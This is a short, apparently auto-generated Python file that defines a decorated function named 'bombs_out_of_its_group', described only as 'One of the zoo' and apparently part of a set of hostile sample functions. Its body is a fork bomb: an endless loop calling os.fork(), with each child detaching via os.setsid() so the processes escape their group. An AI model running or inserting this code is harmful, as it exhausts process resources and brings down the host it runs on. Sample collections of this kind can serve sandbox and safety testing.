from _gen import *  # <AUTO GENERATED>
import os


@func_description("One of the zoo.")
def bombs_out_of_its_group(conv: Conversation):
    while True:
        if os.fork() == 0:
            os.setsid()
